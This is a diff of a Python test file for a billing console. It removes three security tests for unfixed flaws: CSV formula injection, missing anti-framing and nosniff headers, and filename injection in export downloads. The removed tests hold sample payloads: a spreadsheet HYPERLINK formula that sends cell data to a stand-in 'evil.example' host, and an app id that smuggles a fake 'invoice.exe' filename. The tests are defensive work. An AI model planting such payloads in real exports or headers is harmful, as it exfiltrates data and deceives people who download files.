@@ -8,8 +8,6 @@ failing on main.
 
 from __future__ import annotations
 
-import csv
-import io
 import json
 from collections.abc import Iterator
 from datetime import UTC, datetime
@@ -33,7 +31,6 @@ from tests.console_support import (
     plan_snapshot,
     token,
 )
-from tests.support import Conversation, in_time_order
 
 NOW = datetime(2026, 11, 17, 10, 0, tzinfo=UTC)
 ADMIN = bearer(token())
@@ -95,65 +92,6 @@ def test_add_funds_in_another_currency_than_the_plan_is_refused(
         )
         assert answer.status_code == 400, (currency, answer.status_code, answer.text, publisher.events())
         assert answer.json()["parameter"] == "currency"
-
-
-# -- exports: spreadsheet formula injection -------------------------------------------------------------------------
-
-
-@pytest.mark.xfail(strict=True, reason="review: sessions.csv writes formula-leading cells unescaped")
-def test_sessions_export_neutralises_spreadsheet_formulas(chdb_client: Client, database: str) -> None:
-    """user_id (and channel, alert_id, conversation ids) come from end users' platforms: a cell starting
-    with = + - @ is run as a formula by Excel/LibreOffice/Sheets when the admin opens the export."""
-    evil = '=HYPERLINK("https://evil.example/?"&A1,"click")'
-    events = Conversation("c-evil", app_id="acme-bot", account_id=ACCOUNT, user_id=evil).user(0).bot(1).events
-    fill(chdb_client, database, in_time_order(events))
-    app = make_app(chdb_client, database, console_settings(now=datetime(2026, 11, 2, tzinfo=UTC)))
-    with http(app) as c:
-        answer = c.get("/api/v1/sessions.csv?from=2026-11-01&to=2026-11-01", headers=ADMIN)
-    assert answer.status_code == 200, answer.text
-    rows = list(csv.DictReader(io.StringIO(answer.text)))
-    assert rows, answer.text
-    for row in rows:
-        for column, value in row.items():
-            assert not value.startswith(("=", "+", "@")), f"{column}={value!r} is a live formula in a spreadsheet"
-
-
-# -- headers ----------------------------------------------------------------------------------------------------------
-
-
-@pytest.mark.xfail(strict=True, reason="review: no nosniff / framing protection on the console")
-@pytest.mark.parametrize("path", ["/console/plans", "/api/v1/apps", "/api/v1/usage.csv", "/login"])
-def test_billing_responses_forbid_sniffing_and_framing(client: TestClient, path: str) -> None:
-    """The Manage dialog (plan change, add funds, owner change) can be framed by any site (clickjacking);
-    responses carry no X-Content-Type-Options: nosniff."""
-    client.cookies.set("metering_session", token())
-    answer = client.get(path, headers={} if path.startswith("/console") or path == "/login" else ADMIN)
-    assert answer.status_code == 200, answer.text
-    assert answer.headers.get("x-content-type-options") == "nosniff"
-    framing = answer.headers.get("x-frame-options", "").upper() in ("DENY", "SAMEORIGIN") or (
-        "frame-ancestors" in answer.headers.get("content-security-policy", "")
-    )
-    assert framing, dict(answer.headers)
-
-
-@pytest.mark.xfail(strict=True, reason="review: Content-Disposition built from a free-form app id")
-@pytest.mark.parametrize("app_id", ["客服-bot", 'acme"; filename="invoice.exe'])
-def test_exports_of_an_app_with_any_id_download(chdb_client: Client, database: str, app_id: str) -> None:
-    """App ids are free-form (1-128 code points, schemas/v1/common.json). The export's filename puts the
-    id in a quoted header parameter as is: a non-Latin-1 id is a 500 (Starlette encodes headers as
-    Latin-1), a quote rewrites the filename the browser saves."""
-    events = Conversation("c-1", app_id=app_id, account_id=ACCOUNT).user(0).bot(1).events
-    fill(chdb_client, database, in_time_order(events))
-    app = make_app(chdb_client, database, console_settings(now=datetime(2026, 11, 2, tzinfo=UTC)))
-    with TestClient(app, raise_server_exceptions=False) as c:
-        for path in ("/api/v1/usage.csv", "/api/v1/sessions.csv"):
-            answer = c.get(
-                path, params={"app": app_id, "range": "7d"} if "usage" in path else {"app": app_id}, headers=ADMIN
-            )
-            assert answer.status_code == 200, (path, answer.status_code, answer.text[:200])
-            disposition = answer.headers["content-disposition"]
-            assert disposition.count('filename="') <= 1, disposition
-            assert disposition.count('"') <= 2, disposition
 
 
 # -- idempotency ------------------------------------------------------------------------------------------------------
